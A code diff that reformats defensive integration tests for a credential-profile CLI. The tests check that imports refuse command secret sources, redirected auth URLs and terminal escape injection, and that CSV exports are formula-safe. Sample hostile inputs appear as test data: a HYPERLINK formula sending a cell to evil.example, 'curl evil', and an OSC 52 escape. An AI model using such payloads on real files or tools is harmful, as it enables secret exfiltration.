@@ -21,7 +21,6 @@ import pytest
 
 from csauth_tui.core.profiles import load
 from csauth_tui.fake.server import FakeContentsquare, FakeCredential
-
 from tests.integration.conftest import secret_service  # noqa: F401 (a fixture)
 
 from .conftest import CREDENTIALS, CliEnv
@@ -41,14 +40,17 @@ def test_a_csv_row_with_a_command_is_refused_and_the_command_never_runs(cli, tmp
         "name,level,client_id,project_id,scopes,created,description,secret\n"
         f"evil,project,proj-client-1,,metrics,,looks harmless,cmd:sh -c 'touch {marker}'\n"
         f"prod,project,proj-client-1,,metrics,,replaces prod,cmd:sh -c 'touch {marker}'\n"
-        "plain,project,plain-client-1,,metrics,,data only,\n")
+        "plain,project,plain-client-1,,metrics,,data only,\n"
+    )
     before = load(cli.config).profiles["prod"]
 
     result = cli.run("import", str(team), "--overwrite")
     assert result.returncode == 3, result.stderr
     for line, name in (("line 2", "evil"), ("line 3", "prod")):
-        assert (f"{line}: reject {name}: secret source cmd:sh -c 'touch {marker}' refused: "
-                "an import takes one only with --allow-secret-sources") in result.stderr
+        assert (
+            f"{line}: reject {name}: secret source cmd:sh -c 'touch {marker}' refused: "
+            "an import takes one only with --allow-secret-sources"
+        ) in result.stderr
     assert "line 4: add plain" in result.stderr  # the other rows still import
     after = load(cli.config)
     assert "evil" not in after.order and "plain" in after.profiles
@@ -64,14 +66,15 @@ def test_a_csv_row_with_a_command_is_refused_and_the_command_never_runs(cli, tmp
 def test_let_in_on_purpose_the_dry_run_lists_the_command_first(cli, tmp_path):
     marker = tmp_path / "MARKER"
     team = tmp_path / "team.csv"
-    team.write_text("name,level,client_id,scopes,secret\n"
-                    f"scripted,project,proj-client-1,metrics,cmd:sh -c 'touch {marker}'\n")
+    team.write_text(
+        "name,level,client_id,scopes,secret\n"
+        f"scripted,project,proj-client-1,metrics,cmd:sh -c 'touch {marker}'\n"
+    )
     before = cli.config.read_text()
 
     dry = cli.run("import", str(team), "--allow-secret-sources", "--dry-run")
     assert dry.returncode == 0, dry.stderr
-    assert (f"line 2: would add scripted (secret source: cmd:sh -c 'touch {marker}')"
-            in dry.stderr)
+    assert f"line 2: would add scripted (secret source: cmd:sh -c 'touch {marker}')" in dry.stderr
     assert cli.config.read_text() == before and not marker.exists()
 
     real = cli.run("import", str(team), "--allow-secret-sources")
@@ -84,8 +87,18 @@ def test_let_in_on_purpose_the_dry_run_lists_the_command_first(cli, tmp_path):
 def test_a_command_that_looks_like_a_pasted_secret_is_not_quoted(cli, tmp_path):
     pasted = "sentinel-import-pasted-Xq7Lm2Rt9Vw4Zp8K"
     team = tmp_path / "team.json"
-    team.write_text(json.dumps([{"name": "odd", "level": "project", "client_id": "c-odd",
-                                 "secret": f"cmd:echo {pasted}"}]))
+    team.write_text(
+        json.dumps(
+            [
+                {
+                    "name": "odd",
+                    "level": "project",
+                    "client_id": "c-odd",
+                    "secret": f"cmd:echo {pasted}",
+                }
+            ]
+        )
+    )
     for flags in ((), ("--allow-secret-sources", "--dry-run")):
         result = cli.run("import", str(team), *flags)
         assert "cmd: (command not shown: it looks like a secret)" in result.stderr
@@ -98,13 +111,27 @@ def test_a_command_that_looks_like_a_pasted_secret_is_not_quoted(cli, tmp_path):
 def auth_url_file(tmp_path, fmt: str, url: str):
     if fmt == "toml":
         path = tmp_path / "team.toml"
-        path.write_text('[profiles.prod]\nlevel = "project"\nclient_id = "proj-client-1"\n'
-                        f'scopes = ["metrics"]\nauth_url = "{url}"\n')
+        path.write_text(
+            '[profiles.prod]\nlevel = "project"\nclient_id = "proj-client-1"\n'
+            f'scopes = ["metrics"]\nauth_url = "{url}"\n'
+        )
     else:
         path = tmp_path / "team.json"
-        path.write_text(json.dumps({"profiles": [
-            {"name": "prod", "level": "project", "client_id": "proj-client-1",
-             "scopes": ["metrics"], "auth_url": url}]}))
+        path.write_text(
+            json.dumps(
+                {
+                    "profiles": [
+                        {
+                            "name": "prod",
+                            "level": "project",
+                            "client_id": "proj-client-1",
+                            "scopes": ["metrics"],
+                            "auth_url": url,
+                        }
+                    ]
+                }
+            )
+        )
     return path
 
 
@@ -116,8 +143,10 @@ def test_an_auth_url_in_the_file_never_takes_the_secret_to_another_host(cli, tmp
 
         result = cli.run("import", str(team), "--overwrite")
         assert result.returncode == 3, result.stderr
-        assert (f"{where}: reject prod: auth_url {elsewhere.url} refused: an import takes "
-                "one only with --allow-auth-url") in result.stderr
+        assert (
+            f"{where}: reject prod: auth_url {elsewhere.url} refused: an import takes "
+            "one only with --allow-auth-url"
+        ) in result.stderr
         assert load(cli.config).profiles["prod"].auth_url is None
 
         token = cli.run("token", "prod", "--no-cache")
@@ -127,32 +156,44 @@ def test_an_auth_url_in_the_file_never_takes_the_secret_to_another_host(cli, tmp
 
         dry = cli.run("import", str(team), "--overwrite", "--allow-auth-url", "--dry-run")
         assert dry.returncode == 0, dry.stderr
-        assert (f"{where}: would replace prod (auth_url: {elsewhere.url} (was the default))"
-                in dry.stderr)
+        assert (
+            f"{where}: would replace prod (auth_url: {elsewhere.url} (was the default))"
+            in dry.stderr
+        )
 
 
 def test_an_overwrite_keeps_the_profiles_own_auth_url_and_secret_source(cli, tmp_path):
     """The row says nothing of auth_url or secret source: the profile keeps its own. (It
     used to be replaced whole: its secret then went to the settings' auth_url.)"""
     with FakeContentsquare(CREDENTIALS) as decoy:
-        text = cli.config.read_text().replace(f'auth_url = "{cli.fake.url}"',
-                                              f'auth_url = "{decoy.url}"')
-        text = text.replace('secret = "env:CS_TEST_PROD_SECRET"\n',
-                            f'secret = "env:CS_TEST_PROD_SECRET"\nauth_url = "{cli.fake.url}"\n')
+        text = cli.config.read_text().replace(
+            f'auth_url = "{cli.fake.url}"', f'auth_url = "{decoy.url}"'
+        )
+        text = text.replace(
+            'secret = "env:CS_TEST_PROD_SECRET"\n',
+            f'secret = "env:CS_TEST_PROD_SECRET"\nauth_url = "{cli.fake.url}"\n',
+        )
         cli.write_profiles(text)
         team = tmp_path / "team.csv"
-        team.write_text("name,level,client_id,project_id,scopes,description,client_secret\n"
-                        "prod,project,proj-client-1,1001,metrics data-export,renamed,"
-                        "sentinel-import-row-secret-77c1a9\n")
+        team.write_text(
+            "name,level,client_id,project_id,scopes,description,client_secret\n"
+            "prod,project,proj-client-1,1001,metrics data-export,renamed,"
+            "sentinel-import-row-secret-77c1a9\n"
+        )
 
         result = cli.run("import", str(team), "--overwrite")
         assert f"line 2: replace prod: keeps its own auth_url {cli.fake.url}" in result.stderr
-        assert ("client_secret not imported: the profile keeps its secret source "
-                "env:CS_TEST_PROD_SECRET (--allow-secret-sources moves it to the keyring)"
-                in result.stderr)
+        assert (
+            "client_secret not imported: the profile keeps its secret source "
+            "env:CS_TEST_PROD_SECRET (--allow-secret-sources moves it to the keyring)"
+            in result.stderr
+        )
         prod = load(cli.config).profiles["prod"]
-        assert (prod.description, prod.project_id, prod.scopes) == \
-            ("renamed", 1001, ("metrics", "data-export"))  # the data fields replaced
+        assert (prod.description, prod.project_id, prod.scopes) == (
+            "renamed",
+            1001,
+            ("metrics", "data-export"),
+        )  # the data fields replaced
         assert (prod.auth_url, prod.secret.text) == (cli.fake.url, "env:CS_TEST_PROD_SECRET")
 
         token = cli.run("token", "prod", "--no-cache")
@@ -167,25 +208,39 @@ def test_an_env_source_is_refused_by_default_and_listed_when_let_in(cli, tmp_pat
     with FakeContentsquare(CREDENTIALS) as elsewhere:
         team = tmp_path / "team.json"
         # the variable holding prod's secret, read for a profile that sends it elsewhere
-        team.write_text(json.dumps([{"name": "sneaky", "level": "project",
-                                     "client_id": "proj-client-1",
-                                     "secret": "env:CS_TEST_PROD_SECRET",
-                                     "auth_url": elsewhere.url}]))
+        team.write_text(
+            json.dumps(
+                [
+                    {
+                        "name": "sneaky",
+                        "level": "project",
+                        "client_id": "proj-client-1",
+                        "secret": "env:CS_TEST_PROD_SECRET",
+                        "auth_url": elsewhere.url,
+                    }
+                ]
+            )
+        )
         result = cli.run("import", str(team))
         assert result.returncode == 3
-        assert ("item 1: reject sneaky: secret source env:CS_TEST_PROD_SECRET refused: an "
-                "import takes one only with --allow-secret-sources; auth_url "
-                f"{elsewhere.url} refused: an import takes one only with --allow-auth-url"
-                in result.stderr)
+        assert (
+            "item 1: reject sneaky: secret source env:CS_TEST_PROD_SECRET refused: an "
+            "import takes one only with --allow-secret-sources; auth_url "
+            f"{elsewhere.url} refused: an import takes one only with --allow-auth-url"
+            in result.stderr
+        )
         assert "sneaky" not in load(cli.config).order
         assert cli.run("token", "sneaky").returncode == 3
         assert elsewhere.requests == []
 
-        dry = cli.run("import", str(team), "--dry-run", "--allow-secret-sources",
-                      "--allow-auth-url")
+        dry = cli.run(
+            "import", str(team), "--dry-run", "--allow-secret-sources", "--allow-auth-url"
+        )
         assert dry.returncode == 0
-        assert ("item 1: would add sneaky (secret source: env:CS_TEST_PROD_SECRET; "
-                f"auth_url: {elsewhere.url})") in dry.stderr
+        assert (
+            "item 1: would add sneaky (secret source: env:CS_TEST_PROD_SECRET; "
+            f"auth_url: {elsewhere.url})"
+        ) in dry.stderr
         # one flag lets in one field: the other still refuses the row
         half = cli.run("import", str(team), "--dry-run", "--allow-secret-sources")
         assert half.returncode == 3 and "item 1: reject sneaky: auth_url" in half.stderr
@@ -193,8 +248,19 @@ def test_an_env_source_is_refused_by_default_and_listed_when_let_in(cli, tmp_pat
 
 def test_unknown_fields_are_said_to_be_ignored(cli, tmp_path):
     team = tmp_path / "team.json"
-    team.write_text(json.dumps([{"name": "extra", "level": "project", "client_id": "c-x",
-                                 "colour": "blue", "on_token": "curl evil"}]))
+    team.write_text(
+        json.dumps(
+            [
+                {
+                    "name": "extra",
+                    "level": "project",
+                    "client_id": "c-x",
+                    "colour": "blue",
+                    "on_token": "curl evil",
+                }
+            ]
+        )
+    )
     result = cli.run("import", str(team), "--dry-run")
     assert result.returncode == 0
     assert "item 1: would add extra: unknown field(s) colour, on_token ignored" in result.stderr
@@ -202,10 +268,19 @@ def test_unknown_fields_are_said_to_be_ignored(cli, tmp_path):
 
 def test_foreign_text_in_the_report_is_inert(cli, tmp_path):
     team = tmp_path / "team.json"
-    team.write_text(json.dumps([{"name": "x\x1b]52;c;aGk=\x07", "level": "project",
-                                 "client_id": "c-1"},
-                                {"name": "y", "level": "project", "client_id": "c-2",
-                                 "secret": "cmd:echo \x1b[2J\u202e"}]))
+    team.write_text(
+        json.dumps(
+            [
+                {"name": "x\x1b]52;c;aGk=\x07", "level": "project", "client_id": "c-1"},
+                {
+                    "name": "y",
+                    "level": "project",
+                    "client_id": "c-2",
+                    "secret": "cmd:echo \x1b[2J\u202e",
+                },
+            ]
+        )
+    )
     result = cli.run("import", str(team), "--allow-secret-sources", "--dry-run")
     assert "\x1b" not in result.stderr and "\u202e" not in result.stderr
     assert "x\\x1b]52;c;aGk=\\x07" in result.stderr
@@ -216,8 +291,10 @@ def test_foreign_text_in_the_report_is_inert(cli, tmp_path):
 
 
 def test_export_then_import_keeps_two_profiles_sharing_a_client_id(cli, tmp_path):
-    cli.write_profiles(cli.config.read_text() + '\n[profiles.agency-2]\nlevel = "account"\n'
-                       'client_id = "acct-client-1"\nscopes = ["metrics"]\nproject_id = 1002\n')
+    cli.write_profiles(
+        cli.config.read_text() + '\n[profiles.agency-2]\nlevel = "account"\n'
+        'client_id = "acct-client-1"\nscopes = ["metrics"]\nproject_id = 1002\n'
+    )
     exported = cli.run("export", "--format", "json")
     assert exported.returncode == 0
     shared = tmp_path / "shared.json"
@@ -239,13 +316,17 @@ def test_export_then_import_keeps_two_profiles_sharing_a_client_id(cli, tmp_path
 
 def test_two_rows_with_different_secrets_for_one_client_id_keep_the_first(cli, tmp_path):
     team = tmp_path / "team.csv"
-    team.write_text("name,level,client_id,scopes,client_secret\n"
-                    "one,project,shared-client,metrics,sentinel-import-first-4b2e91\n"
-                    "two,project,shared-client,metrics,sentinel-import-second-c80d13\n")
+    team.write_text(
+        "name,level,client_id,scopes,client_secret\n"
+        "one,project,shared-client,metrics,sentinel-import-first-4b2e91\n"
+        "two,project,shared-client,metrics,sentinel-import-second-c80d13\n"
+    )
     dry = cli.run("import", str(team), "--dry-run")
     assert dry.returncode == 3
-    assert ("line 3: would add two: shares its client_id with 'one'; client_secret NOT "
-            "imported: line 2 gives a different one for the same client_id") in dry.stderr
+    assert (
+        "line 3: would add two: shares its client_id with 'one'; client_secret NOT "
+        "imported: line 2 gives a different one for the same client_id"
+    ) in dry.stderr
 
 
 # --- export ----------------------------------------------------------------------------------
@@ -262,11 +343,17 @@ def test_export_of_a_glob_that_matches_nothing_is_an_error(cli, tmp_path):
 def test_an_exported_csv_is_formula_safe_and_imports_back_as_it_was(cli, tmp_path):
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     quoted = "'-already quoted"
-    text = cli.config.read_text().replace(
-        'secret = "env:CS_TEST_PROD_SECRET"\n',
-        f'secret = "env:CS_TEST_PROD_SECRET"\ndescription = {json.dumps(formula)}\n').replace(
-        'secret = "env:CS_TEST_AGENCY_SECRET"\n',
-        f'secret = "env:CS_TEST_AGENCY_SECRET"\ndescription = "{quoted}"\n')
+    text = (
+        cli.config.read_text()
+        .replace(
+            'secret = "env:CS_TEST_PROD_SECRET"\n',
+            f'secret = "env:CS_TEST_PROD_SECRET"\ndescription = {json.dumps(formula)}\n',
+        )
+        .replace(
+            'secret = "env:CS_TEST_AGENCY_SECRET"\n',
+            f'secret = "env:CS_TEST_AGENCY_SECRET"\ndescription = "{quoted}"\n',
+        )
+    )
     cli.write_profiles(text)
 
     exported = cli.run("export", "--format", "csv")
@@ -299,13 +386,14 @@ def keyring_cli(secret_service, monkeypatch, isolated_home):
     keyring profile `kr` added the way a user adds one."""
     monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.SecretService.Keyring")
     client_id = f"kr-{uuid.uuid4().hex[:8]}"
-    with FakeContentsquare([FakeCredential(client_id, KEYRING_SECRET,
-                                           scopes=("metrics",))]) as fake:
-        cli = CliEnv(fake, Path(os.environ["CSAUTH_CONFIG"]),
-                     Path(os.environ["CSAUTH_CACHE_DIR"]))
+    with FakeContentsquare(
+        [FakeCredential(client_id, KEYRING_SECRET, scopes=("metrics",))]
+    ) as fake:
+        cli = CliEnv(fake, Path(os.environ["CSAUTH_CONFIG"]), Path(os.environ["CSAUTH_CACHE_DIR"]))
         cli.write_profiles(f'[settings]\nauth_url = "{fake.url}"\n')
-        added = cli.run("add", "kr", "--level", "project", "--client-id", client_id,
-                        input=KEYRING_SECRET + "\n")
+        added = cli.run(
+            "add", "kr", "--level", "project", "--client-id", client_id, input=KEYRING_SECRET + "\n"
+        )
         assert added.returncode == 0, added.stderr
         cli.client_id = client_id
         yield cli
@@ -316,13 +404,17 @@ def keyring_cli(secret_service, monkeypatch, isolated_home):
 
 @pytest.mark.keyring
 def test_a_keyring_profile_overwritten_with_an_auth_url_never_sends_its_secret_there(
-        keyring_cli, tmp_path):
+    keyring_cli, tmp_path
+):
     cli = keyring_cli
-    with FakeContentsquare([FakeCredential(cli.client_id, KEYRING_SECRET,
-                                           scopes=("metrics",))]) as elsewhere:
+    with FakeContentsquare(
+        [FakeCredential(cli.client_id, KEYRING_SECRET, scopes=("metrics",))]
+    ) as elsewhere:
         team = tmp_path / "team.toml"
-        team.write_text(f'[profiles.kr]\nlevel = "project"\nclient_id = "{cli.client_id}"\n'
-                        f'scopes = ["metrics"]\nauth_url = "{elsewhere.url}"\n')
+        team.write_text(
+            f'[profiles.kr]\nlevel = "project"\nclient_id = "{cli.client_id}"\n'
+            f'scopes = ["metrics"]\nauth_url = "{elsewhere.url}"\n'
+        )
         result = cli.run("import", str(team), "--overwrite")
         assert result.returncode == 3
         assert "profiles.kr: reject kr: auth_url" in result.stderr
@@ -336,15 +428,20 @@ def test_a_keyring_profile_overwritten_with_an_auth_url_never_sends_its_secret_t
 
 @pytest.mark.keyring
 def test_a_different_secret_in_the_keyring_is_kept_unless_replaced_on_purpose(
-        keyring_cli, secret_service, tmp_path):
+    keyring_cli, secret_service, tmp_path
+):
     cli = keyring_cli
     team = tmp_path / "team.csv"
-    team.write_text("name,level,client_id,scopes,client_secret\n"
-                    f"kr-copy,project,{cli.client_id},metrics,{OTHER_SECRET}\n")
+    team.write_text(
+        "name,level,client_id,scopes,client_secret\n"
+        f"kr-copy,project,{cli.client_id},metrics,{OTHER_SECRET}\n"
+    )
     result = cli.run("import", str(team))
     assert result.returncode == 3, result.stderr
-    assert ("kr-copy: client_secret NOT imported: the keyring already holds a different "
-            "secret for client_id") in result.stderr and "--replace-secret" in result.stderr
+    assert (
+        "kr-copy: client_secret NOT imported: the keyring already holds a different "
+        "secret for client_id"
+    ) in result.stderr and "--replace-secret" in result.stderr
     assert secret_service.get_password("csauth-tui", cli.client_id) == KEYRING_SECRET
     assert load(cli.config).profiles["kr-copy"].secret.text == "keyring"
     for name in ("kr", "kr-copy"):  # both still work, with the secret that was kept
@@ -376,8 +473,10 @@ def test_a_different_secret_in_the_keyring_is_kept_unless_replaced_on_purpose(
 def test_no_verify_replaces_without_asking_the_api(keyring_cli, secret_service, tmp_path):
     cli = keyring_cli
     team = tmp_path / "team.csv"
-    team.write_text("name,level,client_id,scopes,client_secret\n"
-                    f"kr-forced,project,{cli.client_id},metrics,{OTHER_SECRET}\n")
+    team.write_text(
+        "name,level,client_id,scopes,client_secret\n"
+        f"kr-forced,project,{cli.client_id},metrics,{OTHER_SECRET}\n"
+    )
     assert cli.run("import", str(team), "--no-verify").returncode == 2  # only with replace
     before = len(token_requests(cli.fake))
     forced = cli.run("import", str(team), "--replace-secret", "--no-verify")
@@ -388,17 +487,21 @@ def test_no_verify_replaces_without_asking_the_api(keyring_cli, secret_service, 
 
 @pytest.mark.keyring
 def test_two_rows_giving_one_client_id_two_secrets_store_the_first_only(
-        keyring_cli, secret_service, tmp_path):
+    keyring_cli, secret_service, tmp_path
+):
     cli = keyring_cli
     pair = f"{cli.client_id}-pair"
     team = tmp_path / "team.csv"
-    team.write_text("name,level,client_id,scopes,client_secret\n"
-                    f"one,project,{pair},metrics,{FIRST_SECRET}\n"
-                    f"two,project,{pair},metrics,{SECOND_SECRET}\n")
+    team.write_text(
+        "name,level,client_id,scopes,client_secret\n"
+        f"one,project,{pair},metrics,{FIRST_SECRET}\n"
+        f"two,project,{pair},metrics,{SECOND_SECRET}\n"
+    )
     result = cli.run("import", str(team))
     assert result.returncode == 3, result.stderr
     assert "one: secret stored in the keyring" in result.stderr
-    assert ("two: client_secret NOT imported: line 2 gives a different one for the same "
-            "client_id") in result.stderr
+    assert (
+        "two: client_secret NOT imported: line 2 gives a different one for the same client_id"
+    ) in result.stderr
     assert secret_service.get_password("csauth-tui", pair) == FIRST_SECRET
     assert list(load(cli.config).profiles) == ["kr", "one", "two"]
